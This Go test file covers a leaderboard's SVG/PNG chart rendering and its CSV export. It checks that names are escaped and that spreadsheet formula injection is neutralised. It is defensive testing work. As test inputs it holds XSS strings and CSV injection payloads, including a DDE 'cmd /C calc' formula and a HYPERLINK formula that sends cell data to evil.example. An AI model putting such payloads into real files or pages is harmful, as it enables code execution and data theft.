package web_test

import (
	"bytes"
	"encoding/csv"
	"encoding/xml"
	"errors"
	"fmt"
	"image/png"
	"io"
	"slices"
	"strconv"
	"strings"
	"testing"
	"time"

	"pgregory.net/rapid"

	"github.com/askagain/askagain/server/practice"
	"github.com/askagain/askagain/server/team"
	"github.com/askagain/askagain/server/web"
)

// svgParts are what a picture's elements say: every text, and what is in the way
// of showing it strictly.
type svgParts struct {
	root        xml.StartElement
	title, told string
	texts       []string
	heights     map[string]int // of the texts, from the top
}

func parseSVG(t interface{ Fatalf(string, ...any) }, drawn []byte) svgParts {
	parts := svgParts{heights: map[string]int{}}
	height := 0
	decoder := xml.NewDecoder(bytes.NewReader(drawn))
	var open []string
	for {
		token, err := decoder.Token()
		if errors.Is(err, io.EOF) {
			return parts
		}
		if err != nil {
			t.Fatalf("no XML: %v in %s", err, drawn)
		}
		switch token := token.(type) {
		case xml.StartElement:
			if !slices.Contains([]string{"svg", "title", "desc", "path", "text", "circle", "g", "rect"}, token.Name.Local) {
				t.Fatalf("an element %q in %s", token.Name.Local, drawn)
			}
			for _, attr := range token.Attr {
				if attr.Name.Local == "style" || strings.HasPrefix(attr.Name.Local, "on") || attr.Name.Local == "href" {
					t.Fatalf("an attribute %q in %s", attr.Name.Local, drawn)
				}
			}
			if len(open) == 0 {
				parts.root = token.Copy()
			}
			for _, attr := range token.Attr {
				if attr.Name.Local == "y" {
					height, _ = strconv.Atoi(attr.Value)
				}
			}
			open = append(open, token.Name.Local)
		case xml.EndElement:
			open = open[:len(open)-1]
		case xml.CharData:
			if len(open) == 0 {
				continue
			}
			switch open[len(open)-1] {
			case "title":
				parts.title += string(token)
			case "desc":
				parts.told += string(token)
			case "text":
				parts.texts = append(parts.texts, string(token))
				parts.heights[string(token)] = height
			}
		}
	}
}

func TestAPictureShowsNamesAsText(t *testing.T) {
	names := []string{`1  <script>alert(1)</script>`, `2  Ann & "Co" 'x'`, `3  ]]><!-- Żółć`, `4  " onload="x`}
	values := []practice.Points{91_300, 80_000, 79_949, -3_500}
	for _, dark := range []bool{false, true} {
		drawn, err := web.Picture("Spring <b>", names, values, dark, "svg")
		if err != nil {
			t.Fatal(err)
		}
		parts := parseSVG(t, drawn)
		if parts.title != "Spring <b>" {
			t.Errorf("title %q", parts.title)
		}
		if want := `Score, this week. ` + names[0] + `: 91.3; ` + names[1] + `: 80.0; ` + names[2] + `: 79.9; ` + names[3] + `: -3.5.`; parts.told != want {
			t.Errorf("description %q, want %q", parts.told, want)
		}
		for _, want := range []string{"Spring <b>", "Score, this week", names[1], names[3], "91.3", "79.9", "-3.5"} {
			if !slices.Contains(parts.texts, want) {
				t.Errorf("%q is not written in %q", want, parts.texts)
			}
		}
		if at := parts.heights; at["91.3"] >= at["80.0"] || at["80.0"] >= at["-3.5"] || at[names[1]] >= at[names[3]] {
			t.Errorf("the first does not stand at the top: %v", at)
		}
		attributes := fmt.Sprint(parts.root.Attr)
		for _, want := range []string{"img", "title told", "720"} {
			if !strings.Contains(attributes, want) {
				t.Errorf("%q is not in %s", want, attributes)
			}
		}
	}
}

func TestAPictureOfNobodySaysSo(t *testing.T) {
	drawn, err := web.Picture("Spring", nil, nil, false, "svg")
	if err != nil {
		t.Fatal(err)
	}
	if parts := parseSVG(t, drawn); !slices.Contains(parts.texts, "Nobody is on this board yet.") || !strings.Contains(parts.told, "Nobody") {
		t.Errorf("%+v", parts)
	}
}

func TestAPictureIsAPNGInBothThemes(t *testing.T) {
	var drawn [2][]byte
	for i, dark := range []bool{false, true} {
		var err error
		if drawn[i], err = web.Picture("Spring", []string{"1  Ann"}, []practice.Points{50_000}, dark, "png"); err != nil {
			t.Fatal(err)
		}
		decoded, err := png.Decode(bytes.NewReader(drawn[i]))
		if err != nil || decoded.Bounds().Dx() != 720 {
			t.Fatalf("%v, %v", decoded, err)
		}
		red, _, _, _ := decoded.At(2, 2).RGBA()
		if isDark := red < 0x8000; isDark != dark {
			t.Errorf("dark %v: the corner is %x", dark, red)
		}
	}
}

// TestAPictureOfAnyNames draws whatever people can be called.
func TestAPictureOfAnyNames(t *testing.T) {
	rapid.Check(t, func(t *rapid.T) {
		names := rapid.SliceOfN(rapid.String(), 0, 10).Draw(t, "names")
		values := make([]practice.Points, len(names))
		for i := range values {
			values[i] = practice.Points(rapid.IntRange(-100_000, 100_000).Draw(t, "value"))
		}
		drawn, err := web.Picture(rapid.String().Draw(t, "title"), names, values, rapid.Bool().Draw(t, "dark"), "svg")
		if err != nil {
			t.Fatal(err)
		}
		parseSVG(t, drawn)
	})
}

func TestBoardCSV(t *testing.T) {
	at := time.Date(2026, 3, 6, 16, 30, 0, 0, time.FixedZone("", 3600))
	rows := []team.Standing{{Place: 1, Name: "Ann", Value: 91_349, Played: 2, At: at}}
	hostile := []string{
		"=cmd|' /C calc'!A0", "+1", "-1", "@SUM(A1)", "\t=1", "\r=1", "\n=1", "  =1", "＝1", "＋1", "－1", "＠1", "\u00a0=1",
		`=HYPERLINK("https://evil.example?"&A1,"x")`,
	}
	for i, name := range append(hostile, "Żółć, \"the\" one", "O'Hara", "Jean-Luc", "a=b") {
		rows = append(rows, team.Standing{Place: i + 2, Name: name, Value: -3_500, Played: 1, At: at})
	}
	file, err := web.BoardCSV(rows, 3)
	if err != nil {
		t.Fatal(err)
	}
	if !strings.HasPrefix(file, "place,name,value,played,of,reached\r\n1,Ann,91.3,2,3,2026-03-06T15:30:00Z\r\n") {
		t.Errorf("it begins with %q", file[:80])
	}
	records, err := csv.NewReader(strings.NewReader(file)).ReadAll()
	if err != nil || len(records) != len(rows)+1 {
		t.Fatalf("%d records, %v", len(records), err)
	}
	for i, record := range records[2:] {
		name := rows[i+1].Name
		name = strings.ReplaceAll(name, "\r", "") // no name has one, and the format drops it
		if i < len(hostile) {
			name = "'" + name
		}
		if record[1] != name {
			t.Errorf("%q is written as %q", rows[i+1].Name, record[1])
		}
	}
}

func FuzzBoardCSV(f *testing.F) {
	f.Add("=1+1")
	f.Add(" \t=1")
	f.Add("Ann\r\n=1")
	f.Fuzz(func(t *testing.T, name string) {
		file, err := web.BoardCSV([]team.Standing{{Place: 1, Name: name}}, 1)
		if err != nil {
			t.Fatal(err)
		}
		records, err := csv.NewReader(strings.NewReader(file)).ReadAll()
		if err != nil || len(records) != 2 || len(records[1]) != 6 {
			t.Fatalf("%q breaks the file: %q, %v", name, file, err)
		}
		cell := records[1][1]
		if trimmed := strings.TrimLeft(cell, " \u00a0"); trimmed != "" && strings.ContainsAny(trimmed[:1], "=+-@\t\r\n") {
			t.Errorf("%q becomes the cell %q", name, cell)
		}
	})
}

func BenchmarkPicture(b *testing.B) {
	names, values := make([]string, 10), make([]practice.Points, 10)
	for i := range names {
		names[i], values[i] = fmt.Sprintf("%d  Somebody Named", i+1), practice.Points(90_000-i*5_000)
	}
	for _, format := range []string{"svg", "png"} {
		b.Run(format, func(b *testing.B) {
			b.ReportAllocs()
			for b.Loop() {
				if _, err := web.Picture("Spring", names, values, false, format); err != nil {
					b.Fatal(err)
				}
			}
		})
	}
}
